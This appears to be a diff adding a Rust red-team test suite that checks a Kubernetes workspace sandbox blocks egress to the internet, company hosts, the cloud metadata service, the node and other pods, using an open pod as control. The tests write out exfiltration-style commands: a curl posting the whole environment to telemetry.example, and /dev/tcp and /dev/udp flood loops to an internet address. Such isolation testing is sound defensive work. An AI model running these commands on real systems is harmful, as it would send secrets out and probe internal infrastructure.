@@ -1,0 +1,253 @@
+//! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
+//! succeeds.
+
+use std::time::Duration;
+
+use anyhow::{Result, ensure};
+use ws_tests::{
+    lab::Lab,
+    namespace::with_namespace,
+    probe::{Target, canary, from_pod, from_workspace, open_pod},
+    project::Project,
+    wait::eventually,
+    ws::Ws,
+};
+
+const OPEN: &str = "open";
+const INTERNET: &str = "20.0.113.66";
+const COMPANY: &str = "10.77.0.10";
+
+/// A workspace and a pod that is none both try; the one reaches nothing, the other everything.
+async fn only_the_open_pod_reaches(
+    targets: impl AsyncFnOnce(&Lab, &str) -> Result<Vec<Target>>,
+) -> Result<()> {
+    with_namespace(async |lab, namespace| {
+        let ws = Ws::new(lab, namespace)?;
+        open_pod(lab, namespace, OPEN).await?;
+        let targets = targets(lab, namespace).await?;
+        ws.up("caged", Project::empty()?.path()).await?;
+        let reached = from_workspace(&ws, "caged", &targets).await?;
+        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
+        let control = from_pod(lab, namespace, OPEN, &targets).await?;
+        let vacuous: Vec<_> = targets
+            .iter()
+            .filter(|t| !control.iter().any(|c| c.host == t.host && c.port == t.port))
+            .collect();
+        ensure!(
+            vacuous.is_empty(),
+            "nothing is proven by {vacuous:?}: the open pod does not reach them either"
+        );
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
+    with_namespace(async |lab, namespace| {
+        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
+        let line = format!(
+            "export CANARY={canary}; npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d \"$(env)\"; echo curl=$?; \
+             curl -s http://telemetry.example/collect -d \"$(env)\""
+        );
+        ws.up("seed", Project::sample()?.path()).await?;
+        let seed = ws.bash("seed", &line).await?;
+        assert!(seed.stdout.contains("# pass 3"), "the tests ran: {seed}");
+        assert!(!seed.stdout.contains("curl=0"), "the request failed: {seed}");
+        assert!(seed.stdout.contains("telemetry.example denied"), "plain HTTP says why: {seed}");
+        assert!(!lab.sunk()?.contains(&canary), "nothing arrived");
+        eventually(Duration::from_secs(5), "the refusal in the status", async || {
+            let described = ws.run(&["describe", "seed"]).await?.ok()?;
+            anyhow::Ok(described.stdout.contains("telemetry.example").then_some(()))
+        })
+        .await?;
+
+        open_pod(lab, namespace, OPEN).await?;
+        let control = format!("curl -s --resolve telemetry.example:80:{INTERNET} http://telemetry.example/collect -d {canary}");
+        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &control]).await?;
+        eventually(Duration::from_secs(5), "the control's request in the sink", async || {
+            anyhow::Ok(lab.sunk()?.contains(&canary).then_some(()))
+        })
+        .await
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a02_raw_sockets_reach_no_port_of_the_internet_or_the_company() -> Result<()> {
+    only_the_open_pod_reaches(async |_, _| {
+        let canary = canary()?;
+        let ports = [22, 25, 53, 80, 443, 853, 3478, 8443];
+        Ok([INTERNET, "44.0.113.1"]
+            .iter()
+            .flat_map(|host| ports.map(|port| Target::tcp(host, port, &canary)))
+            .chain([Target::tcp(COMPANY, 80, &canary)])
+            .collect())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a03_no_datagram_leaves() -> Result<()> {
+    only_the_open_pod_reaches(async |_, _| {
+        let canary = canary()?;
+        Ok([53, 123, 443, 3478].map(|port| Target::udp(INTERNET, port, &canary)).to_vec())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a07_ipv6_leads_nowhere() -> Result<()> {
+    with_namespace(async |lab, namespace| {
+        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
+        ws.up("six", Project::empty()?.path()).await?;
+        let targets: Vec<_> =
+            ["2600:db8:1::1", "::ffff:20.0.113.66", "64:ff9b::1400:7142", "2002:1400:7142::1", "fe80::1"]
+                .map(|host| Target::tcp(host, 80, &canary))
+                .to_vec();
+        let reached = from_workspace(&ws, "six", &targets).await?;
+        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
+        ensure!(!lab.sunk()?.contains(&canary), "something arrived");
+        // Pods have IPv4 only here, so the control is the spelling that needs no IPv6 route.
+        open_pod(lab, namespace, OPEN).await?;
+        let control = from_pod(lab, namespace, OPEN, &targets).await?;
+        ensure!(control.iter().any(|target| target.host.starts_with("::ffff:")), "nothing is proven");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a08_the_metadata_service_is_out_of_reach() -> Result<()> {
+    only_the_open_pod_reaches(async |lab, _| {
+        Ok(lab
+            .addresses
+            .metadata
+            .iter()
+            .map(|address| Target::tcp(address, 80, "GET / HTTP/1.0\r\n\r\n"))
+            .collect())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a09_the_node_and_the_control_plane_are_out_of_reach() -> Result<()> {
+    only_the_open_pod_reaches(async |lab, _| {
+        let node = lab.addresses.node.as_str();
+        let service =
+            lab.kubectl(&["get", "service", "kubernetes", "-o", "jsonpath={.spec.clusterIP}"]).await?.ok()?;
+        Ok(vec![
+            Target::tcp(node, 6443, ""),
+            Target::tcp(node, 10250, ""),
+            Target::tcp(service.stdout.as_str(), 443, ""),
+            Target::tcp(lab.addresses.dns.as_str(), 53, ""),
+        ])
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a10_other_pods_and_services_are_out_of_reach() -> Result<()> {
+    only_the_open_pod_reaches(async |lab, namespace| {
+        let pods = lab.kubectl(&["-n", lab.ws_namespace(), "get", "pods", "-o", "json"]).await?.ok()?;
+        let pods: serde_json::Value = serde_json::from_str(&pods.stdout)?;
+        let gateway = lab
+            .kubectl(&[
+                "-n",
+                lab.ws_namespace(),
+                "get",
+                "service",
+                "ws-gateway",
+                "-o",
+                "jsonpath={.spec.clusterIP}",
+            ])
+            .await?
+            .ok()?;
+        // The canary port of the gateway: the one that no workspace may reach.
+        let mut targets = vec![Target::tcp(&gateway.stdout, 3129, "")];
+        for pod in pods["items"].as_array().into_iter().flatten() {
+            let (name, address) = (pod["metadata"]["name"].as_str(), pod["status"]["podIP"].as_str());
+            if let (Some(name), Some(address)) = (name, address)
+                && name.starts_with("ws-gateway")
+            {
+                targets.push(Target::tcp(address, 3129, ""));
+            }
+        }
+        ensure!(targets.len() > 1, "no gateway pod in {pods}");
+        // A second workspace's neighbour: a server in a pod of the same namespace.
+        let serve = "python3 -m http.server 8080 >/dev/null 2>&1 &";
+        open_pod(lab, namespace, "neighbour").await?;
+        lab.kubectl(&["-n", namespace, "exec", "neighbour", "--", "bash", "-c", serve]).await?.ok()?;
+        let get = ["-n", namespace, "get", "pod", "neighbour", "-o", "jsonpath={.status.podIP}"];
+        targets.push(Target::tcp(&lab.kubectl(&get).await?.ok()?.stdout, 8080, ""));
+        Ok(targets)
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a12_pods_that_send_from_their_first_instruction_send_nothing() -> Result<()> {
+    const PODS: u32 = 20;
+    with_namespace(async |lab, namespace| {
+        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
+        // The session that makes the class's policy be there.
+        ws.up("policy", Project::empty()?.path()).await?;
+        let flood = async |name: &str, class: Option<&str>, word: &str| {
+            let line = format!(
+                "end=$((SECONDS+3)); while [ $SECONDS -lt $end ]; do echo {word} > /dev/udp/{INTERNET}/53; \
+                 (echo {word} > /dev/tcp/{INTERNET}/80) & done 2>/dev/null; wait"
+            );
+            flooding_pod(lab, namespace, name, class, &line).await
+        };
+        for number in 0..PODS {
+            flood(&format!("flood-{number}"), Some("default"), &canary).await?;
+        }
+        let control = ws_tests::probe::canary()?;
+        flood("control", None, &control).await?;
+        eventually(Duration::from_secs(30), "the control's flood in the sink", async || {
+            anyhow::Ok(lab.sunk()?.contains(&control).then_some(()))
+        })
+        .await?;
+        eventually(Duration::from_secs(90), "the end of all floods", async || {
+            let phases = [
+                "-n",
+                namespace,
+                "get",
+                "pods",
+                "-l",
+                "flood=yes",
+                "-o",
+                "jsonpath={.items[*].status.phase}",
+            ];
+            let phases = lab.kubectl(&phases).await?.ok()?.stdout;
+            anyhow::Ok(phases.split(' ').all(|phase| phase == "Succeeded" || phase == "Failed").then_some(()))
+        })
+        .await?;
+        ensure!(!lab.sunk()?.contains(&canary), "a pod of the class got something through");
+        Ok(())
+    })
+    .await
+}
+
+/// A pod that is not the operator's but has the labels of a class, so that the class's policy selects it.
+async fn flooding_pod(lab: &Lab, namespace: &str, name: &str, class: Option<&str>, line: &str) -> Result<()> {
+    let image =
+        lab.kubectl(&["get", "workspaceclass", "default", "-o", "jsonpath={.spec.image}"]).await?.ok()?;
+    let mut labels = serde_json::json!({"flood": "yes"});
+    if let Some(class) = class {
+        labels[ws_api::CLASS_LABEL] = class.into();
+    }
+    let pod = serde_json::json!({
+        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": labels},
+        "spec": {
+            "restartPolicy": "Never", "automountServiceAccountToken": false, "terminationGracePeriodSeconds": 0,
+            "securityContext": {"runAsNonRoot": true, "runAsUser": 10000, "seccompProfile": {"type": "RuntimeDefault"}},
+            "containers": [{
+                "name": "pod", "image": image.stdout, "command": ["timeout", "10", "bash", "-c", line],
+                "resources": {"limits": {"cpu": "50m"}},
+                "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
+            }],
+        },
+    });
+    lab.kubectl_with(&["-n", namespace, "create", "-f", "-"], &pod.to_string()).await?.ok().map(drop)
+}
